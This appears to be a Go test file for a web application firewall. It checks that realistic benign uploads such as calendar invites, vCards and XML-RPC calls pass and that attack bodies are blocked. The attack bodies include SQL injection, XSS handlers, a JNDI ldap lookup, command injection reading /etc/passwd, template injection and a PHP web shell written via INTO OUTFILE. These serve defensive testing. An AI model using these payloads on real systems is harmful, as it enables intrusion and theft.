	add(realReq{name: "chat message with emoji and code", method: "POST", target: "/api/chat.postMessage", ctype: "application/json; charset=utf-8", hdr: with(hdrChrome),
		body: `{"channel":"C024BE91L","text":"deploy failed :x: — ` + "`" + `ERROR 1064 (42000): You have an error in your SQL syntax near ''O''Brien'' at line 1` + "`" + ` cc <@U024BE7LH>","blocks":[{"type":"section","text":{"type":"mrkdwn","text":"*Deploy* <https://ci.example.com/builds/42|#42> failed"}}]}`})
	add(realReq{name: "calendar invite ICS as text", method: "POST", target: "/api/calendar/import", ctype: "text/calendar", hdr: with(hdrXHR),
		body: "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Example Corp//Calendar 1.0//EN\r\nBEGIN:VEVENT\r\nUID:20261203T090000Z-1234@example.com\r\nDTSTART:20261210T140000Z\r\nDTEND:20261210T150000Z\r\nSUMMARY:Q3 review: 'EMEA' & 'APAC'\r\nDESCRIPTION:Agenda:\\n1. Revenue (select regions)\\n2. Drop-off rates\\n3. AOB\r\nLOCATION:Room 4 / https://meet.example.com/abc-defg-hij\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"})
	add(realReq{name: "vCard upload", method: "POST", target: "/api/contacts/import", ctype: "text/vcard", hdr: with(hdrXHR),
		body: "BEGIN:VCARD\r\nVERSION:3.0\r\nN:O'Brien;Seán;;;\r\nFN:Seán O'Brien\r\nORG:O'Brien & Sons\\, Ltd.\r\nTEL;TYPE=WORK,VOICE:+353 21 123 4567\r\nEMAIL:sean@example.ie\r\nNOTE:Prefers e-mail; don't call before 9.\r\nEND:VCARD\r\n"})
	add(realReq{name: "GPX track upload as XML", method: "POST", target: "/api/tracks", ctype: "application/gpx+xml", hdr: with(hdrMobile),
		body: `<?xml version="1.0" encoding="UTF-8"?><gpx version="1.1" creator="Strava" xmlns="http://www.topografix.com/GPX/1/1" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://www.topografix.com/GPX/1/1 http://www.topografix.com/GPX/1/1/gpx.xsd"><trk><name>Morning run -- Phoenix Park</name><trkseg><trkpt lat="53.3559" lon="-6.3298"><ele>25.1</ele><time>2026-12-03T07:00:00Z</time></trkpt></trkseg></trk></gpx>`})
	add(realReq{name: "RSS feed submitted", method: "POST", target: "/api/feeds/preview", ctype: "application/rss+xml", hdr: with(hdrXHR),
		body: `<?xml version="1.0" encoding="UTF-8"?><?xml-stylesheet type="text/xsl" href="/feed.xsl"?><rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>Example Blog</title><link>https://blog.example.com/</link><item><title>Union vs. join: when to select which</title><link>https://blog.example.com/union-vs-join</link><description><![CDATA[<p>We compare <code>UNION ALL</code> and <code>JOIN</code> on a 10M-row table.</p><img src="https://blog.example.com/img/chart.png" alt="chart">]]></description></item></channel></rss>`})
	add(realReq{name: "HTML form sent as text/plain", method: "POST", target: "/contact", ctype: "text/plain", hdr: with(hdrChrome, "Origin", "https://www.example.com"),
		body: "name=Alice O'Neil\r\nemail=alice@example.com\r\nsubject=Quote for 3 items & delivery\r\nmessage=Hello, I'd like a quote; we're in Zürich (8001). Thanks!\r\n"})
	xmlrpc := `<?xml version="1.0"?><methodCall><methodName>wp.getPosts</methodName><params><param><value><int>1</int></value></param><param><value><string>editor</string></value></param><param><value><string>s3cr3t'pass</string></value></param><param><value><struct><member><name>post_type</name><value><string>post</string></value></member><member><name>number</name><value><int>10</int></value></member></struct></value></param></params></methodCall>`
	add(realReq{name: "XML-RPC call", method: "POST", target: "/api/rpc", ctype: "text/xml", hdr: []string{"User-Agent", "WordPress/6.7; https://blog.example.com"}, body: xmlrpc})
	// Markup without a prolog or namespace, sent as text: judged as the
	// HTML a page would render.
	add(realReq{name: "rich-text note as text/plain", method: "PUT", target: "/api/notes/17", ctype: "text/plain;charset=UTF-8", hdr: with(hdrXHR),
		body: `<p>Hello <strong>team</strong>,</p><ul><li>Ship v2 on <em>Friday</em> &amp; tell O'Brien</li><li>Read <a href="https://example.com/plan">the plan</a></li></ul>`})
	add(realReq{name: "HTML fragment saved by a page builder", method: "PUT", target: "/api/pages/home/blocks/3", ctype: "text/html", hdr: with(hdrXHR),
		body: `<section class="hero"><h2>Spring sale -- 30% off</h2><form action="/subscribe" method="post"><input type="email" name="email" placeholder="you@example.com"><button type="submit">Join</button></form><img src="/img/hero.webp" alt="Shoes on a table"></section>`})
	add(realReq{name: "XML without a prolog as text", method: "POST", target: "/api/import", ctype: "text/plain", hdr: with(hdrXHR),
		body: `<kml><Document><Placemark><name>O'Hare</name><description>Terminal 5 -- arrivals</description><Point><coordinates>-87.9,41.9</coordinates></Point></Placemark></Document></kml>`})
	add(realReq{name: "MDM check-in plist", method: "PUT", target: "/mdm/checkin", ctype: "application/x-apple-aspen-mdm-checkin", hdr: []string{"User-Agent", "MDM/1.0"},
		body: `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist version="1.0"><dict><key>MessageType</key><string>Authenticate</string><key>Topic</key><string>com.apple.mgmt.External.3f2a</string><key>UDID</key><string>0000-1111-2222</string></dict></plist>`})
	add(realReq{name: "plist as XML", method: "POST", target: "/api/devices/profile", ctype: "application/xml", hdr: with(hdrMobile),
		body: `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE plist PUBLIC "-//Apple Computer//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist version="1.0"><dict><key>Name</key><string>O'Brien's iPad</string></dict></plist>`})
	add(realReq{name: "SVG icon as text", method: "PUT", target: "/api/icons/home", ctype: "text/plain", hdr: with(hdrXHR),
		body: `<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="24" height="24"><defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs><rect width="24" height="24" fill="url(#g)"/><use xlink:href="#g"/></svg>`})
	add(realReq{name: "SOAP call as text", method: "POST", target: "/ws/prices", ctype: "text/plain", hdr: with(hdrXHR),
		body: `<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetPrice><Item>Apples &amp; pears -- O'Hara's</Item></GetPrice></soap:Body></soap:Envelope>`})
	add(realReq{name: "Vue single-file template as text", method: "POST", target: "/api/snippets", ctype: "text/plain", hdr: with(hdrXHR),
		body: `<template><div :class="{ active: isActive }" @click="toggle">{{ message }}</div></template>`})
	add(realReq{name: "WordPress XML-RPC call", method: "POST", target: "/xmlrpc.php", ctype: "text/xml", hdr: []string{"User-Agent", "WordPress/6.7; https://blog.example.com"}, body: xmlrpc})
	return out
}

func TestRealisticBenignRequests(t *testing.T) {
	eng, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	verbose := os.Getenv("GATEHOUSE_REALISTIC_VERBOSE") != ""
	cases := realisticBenign()
	blocked, left := 0, 0
	for _, c := range cases {
		d, err := eng.InspectRequest(c.build(), RequestInfo{All: true})
		if err != nil {
			t.Fatalf("%s: %v", c.name, err)
		}
		switch {
		case d.Blocked && c.left != "":
			blocked++
			left++
			if verbose {
				t.Logf("left: %s (%s): %v", c.name, c.left, d.Matches)
			}
		case d.Blocked:
			blocked++
			t.Errorf("%s blocked: %v", c.name, d.Matches)
		case verbose && d.Score > 0:
			t.Logf("%s scored %d: %v", c.name, d.Score, d.Matches)
		}
	}
	t.Logf("%d realistic benign requests, %d blocked (%d of them known limits)", len(cases), blocked, left)
}

// TestRealisticContextAttacks: for each context the benign table relies on
// (JSON documents in a row sent as text, SQL editor fields, CSP report
// samples), the attack in the same place still blocks.
func TestRealisticContextAttacks(t *testing.T) {
	eng, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	jsonBody := func(k, v string) string { return jsonOf(map[string]string{k: v}) }
	cases := []realReq{
		// Newline-delimited JSON as text/plain: each string is inspected.
		{name: "SQLi in an NDJSON batch", method: "POST", target: "/v1/batch", ctype: "text/plain", body: `{"type":"track","event":"x"}` + "\n" + `{"type":"page","properties":{"q":"1' or '1'='1' -- "}}` + "\n"},
		{name: "XSS in an NDJSON batch", method: "POST", target: "/api/v2/rum", ctype: "text/plain;charset=UTF-8", body: `{"a":1}` + "\n" + `{"view":{"name":"<img src=x onerror=alert(document.domain)>"}}`},
		{name: "command after NDJSON lines", method: "POST", target: "/v1/batch", ctype: "text/plain", body: `{"a":1}` + "\n" + `{"b":2}` + "\n" + `;cat /etc/passwd`},
		{name: "JNDI in a gzip NDJSON batch", method: "POST", target: "/api/envelope/", ctype: "text/plain", gzip: true, body: `{"event_id":"1"}` + "\n" + `{"type":"event"}` + "\n" + `{"message":"${jndi:ldap://203.0.113.9/a}"}`},
		// A form sent as text/plain (one field per line) is read as a form.
		{name: "command in a text/plain form line", method: "POST", target: "/contact", ctype: "text/plain", body: "name=x\r\nmessage=;cat /etc/passwd\r\n"},
		{name: "Java class in a text/plain form", method: "POST", target: "/api/import", ctype: "text/plain", body: "type=java.io.FileOutputStream"},
		{name: "SQLi in a text/plain form", method: "POST", target: "/search", ctype: "text/plain;charset=UTF-8", body: "q=1' or '1'='1' -- \r\npage=2"},
		// Markup sent as text that is no XML document is judged as HTML:
		// its tags and handlers are the payload.
		{name: "event handler in a text/plain body", method: "POST", target: "/api/comments", ctype: "text/plain", body: "<svg/onload=alert(1)>"},
		{name: "unquoted handler in a text/html body", method: "POST", target: "/api/comments", ctype: "text/html", body: "<img src=x onerror=prompt(document.domain)>"},
		{name: "javascript: form action as text", method: "POST", target: "/api/comments", ctype: "text/plain", body: "<form action=javascript:alert(1)><input type=submit>"},
		{name: "base element in an untyped body", method: "POST", target: "/api/comments", body: "<base href=//evil.example/>"},
		{name: "ERB expression as text", method: "POST", target: "/api/render", ctype: "text/plain", body: "<%= 7*7 %>"},
		{name: "FreeMarker execute as text", method: "POST", target: "/api/render", ctype: "text/plain", body: `<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}`},
		{name: "malformed XML with a handler", method: "POST", target: "/api/import", ctype: "application/xml", body: "<x onclick=alert(1)>click"},
		{name: "plist DOCTYPE naming another host", method: "POST", target: "/api/devices/profile", ctype: "application/xml", body: `<?xml version="1.0"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://evil.example/x.dtd"><plist version="1.0"/>`},
		{name: "handler behind a namespace declaration", method: "POST", target: "/api/comments", ctype: "text/plain", body: `<img xmlns="x" src=x onerror=alert(1)>`},
		{name: "handler behind an XML prolog", method: "POST", target: "/api/comments", ctype: "text/plain", body: `<?xml version="1.0"?><svg/onload=alert(1)>`},
		{name: "handler behind a comment", method: "POST", target: "/api/comments", ctype: "text/plain", body: "<!-- hi --><svg/onload=alert(1)>"},
		{name: "well-formed SVG with a handler as text", method: "POST", target: "/api/icons", ctype: "text/plain", body: `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><circle r="4"/></svg>`},
		{name: "well-formed img with a handler as text", method: "POST", target: "/api/comments", ctype: "text/plain", body: `<img src="x" onerror="alert(1)"/>`},
		// SQL editor fields: only a read-only statement with plain quoted
		// spans passes; injections in such fields do not.
		{name: "breakout in a query field", method: "POST", target: "/api/dataset", ctype: "application/json", body: jsonBody("query", "' OR 1=1-- ")},
		{name: "number then UNION in a sql field", method: "POST", target: "/api/run", ctype: "application/json", body: jsonBody("sql", "1 union select password from users")},
		{name: "code in the quoted spans of a statement", method: "POST", target: "/api/run", ctype: "application/json", body: jsonBody("sql", "SELECT 1 FROM t WHERE a=' OR 1=1 OR '")},
		{name: "stacked statement after a SELECT", method: "POST", target: "/api/run", ctype: "application/json", body: jsonBody("rawSql", "SELECT 1; DROP TABLE users")},
		{name: "timing function in a SELECT", method: "POST", target: "/api/run", ctype: "application/json", body: jsonBody("query", "SELECT sleep(10) FROM dual")},
		{name: "code in a placeholder-looking span", method: "POST", target: "/api/run", ctype: "application/json", body: jsonBody("sql", "SELECT 1 FROM t WHERE a = '{{x}} UNION SELECT password FROM users --'")},
		{name: "blind conditional outside an SQL field", method: "GET", target: "/p?id=" + url.QueryEscape("1 AND (CASE WHEN (1=1) THEN 1 ELSE 0 END)=1")},
		{name: "SELECT INTO OUTFILE", method: "POST", target: "/api/run", ctype: "application/json", body: jsonBody("sql", "SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/x.php'")},
		{name: "escaped quote in a statement", method: "GET", target: "/query?query=" + url.QueryEscape(`SELECT * FROM t WHERE a = '\' OR 1=1 -- '`)},
		{name: "executable comment in a statement", method: "POST", target: "/sql.php", ctype: "application/x-www-form-urlencoded", body: url.Values{"sql_query": {"SELECT /*!50000UNION*/ 1 FROM t WHERE a=' UNION SELECT 1'"}}.Encode()},
		{name: "statement in a field of another name", method: "POST", target: "/api/search", ctype: "application/json", body: jsonBody("q", "select password from users where id=1 and sleep(5)")},
		// SQL scripts of any field pass only from a statement's first
		// word, with plain quoted spans, over three lines or more.
		{name: "breakout before a script", method: "POST", target: "/api/snippets", ctype: "application/json", body: jsonBody("content", "' UNION SELECT password FROM users--\nSELECT 1\nSELECT 2")},
		{name: "two-line subquery", method: "POST", target: "/api/orders", ctype: "application/json", body: jsonBody("ids", "SELECT id FROM admins\nWHERE sleep(5)")},
		{name: "code in a script's quoted span", method: "POST", target: "/api/snippets", ctype: "application/json", body: jsonBody("content", "SELECT 1\nFROM t\nWHERE a = ' OR 1=1 OR '")},
		// CSP reports: JavaScript in a sample is what it reports; markup
		// there, or anything elsewhere in the report, still counts.
		{name: "markup in a CSP sample", method: "POST", target: "/csp-report", ctype: "application/csp-report", body: `{"csp-report":{"document-uri":"https://app.example.com/","script-sample":"<script>alert(1)</script>"}}`},
		{name: "handler in a Reporting API sample", method: "POST", target: "/reports", ctype: "application/reports+json", body: `[{"type":"csp-violation","body":{"sample":"<img src=x onerror=alert(1)>"}}]`},
		{name: "injection in another CSP report field", method: "POST", target: "/csp-report", ctype: "application/csp-report", body: `{"csp-report":{"document-uri":"https://app.example.com/?q=' union select password from users--","script-sample":"x"}}`},
		{name: "JavaScript sample outside a report", method: "POST", target: "/api/snippets", ctype: "application/json", body: `{"sample":"alert(document.cookie)"}`},
	}
	for _, c := range cases {
		d, err := eng.Inspect(c.build())
		if err != nil {
			t.Fatalf("%s: %v", c.name, err)
		}
		if !d.Blocked {
			t.Errorf("%s passed: score %d %v", c.name, d.Score, d.Matches)
		}
	}
}

// TestMarkdownNotJavaScript: Markdown links after a word JavaScript also
// has ("this [page](…)", "the parent [docs](../)") and inline code ending
// in a function name (`DB.Open`, `window.print`) are prose; the bracket
// calls and tagged templates they resemble still block.
func TestMarkdownNotJavaScript(t *testing.T) {
	in, err := NewInspector(InspectorOptions{})
	if err != nil {
		t.Fatal(err)
	}
	score := func(kind Kind, name, v string) (int, []Hit) {
		hits := in.InspectValue(nil, kind, name, v)
		n := 0
		for _, h := range hits {
			n += h.Score
		}
		return n, hits
	}
	for _, b := range []string{
		"More on this [later](#setup).",
		"See this [guide](https://docs.example.com/start?lang=en) and the parent [README](../README.md).",
		"Follow the steps in this [file](./docs/install.md) first.",
		"Open the parent [folder](/docs/guides/intro) in the sidebar.",
		"Call `db.Open` once and `rows.Close` when done.",
		"Use `window.print` to print the page, or `fetch` for requests.",
		"- Implement `EVAL` and `FUNCTION` commands (#2475)",
		"Mail this [address](mailto:help@example.com).",
	} {
		for _, k := range []Kind{KindBodyValue, KindQueryValue} {
			if n, hits := score(k, "text", b); n >= DefaultThreshold {
				t.Errorf("Markdown %q (kind %d) blocked: %v", b, k, hits)
			}
		}
	}
	for _, p := range []string{
		"`x`+alert`1`",
		"a=`b`;prompt`1`",
		"top[name](/alert/)",
		"this[`ev`+`al`](`alert(1)`)",
		"window['alert'](document.cookie)",
		"self[x]`1`",
		"parent['al'+'ert'](1)",
		"this [x] (#y) top['al'+'ert'](1)",
	} {
		for _, k := range []Kind{KindBodyValue, KindQueryValue} {
			if n, hits := score(k, "q", p); n < DefaultThreshold {
				t.Errorf("attack %q (kind %d) passed: %v", p, k, hits)
			}
		}
	}
}
